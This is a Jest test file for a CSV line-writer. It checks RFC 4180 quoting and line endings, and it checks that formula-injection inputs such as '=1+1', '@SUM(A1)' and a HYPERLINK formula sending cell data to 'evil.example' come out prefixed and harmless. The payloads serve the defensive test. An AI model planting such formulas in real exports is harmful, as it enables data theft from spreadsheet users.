import { describe, expect, it } from '@jest/globals';
import { csvLine } from './csv.js';

describe('a line of CSV', () => {
  it('ends as RFC 4180 says, and leaves empty what is not there', () => {
    expect(csvLine(['a', null, undefined, 'b', 0, false])).toBe('a,,,b,0,false\r\n');
  });

  it('quotes what holds a comma, a quote or a line end', () => {
    expect(csvLine(['a,b', 'a"b', 'a\nb', 'a b'])).toBe('"a,b","a""b","a\nb",a b\r\n');
  });

  it.each([`=1+1`, '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', `=HYPERLINK("http://evil.example?"&A1,"x")`])('makes %j harmless', (text) => {
    const cell = csvLine([text]).slice(0, -2);
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
  });

  it('leaves a number a number, also a negative one', () => {
    expect(csvLine([-1])).toBe('-1\r\n');
  });
});
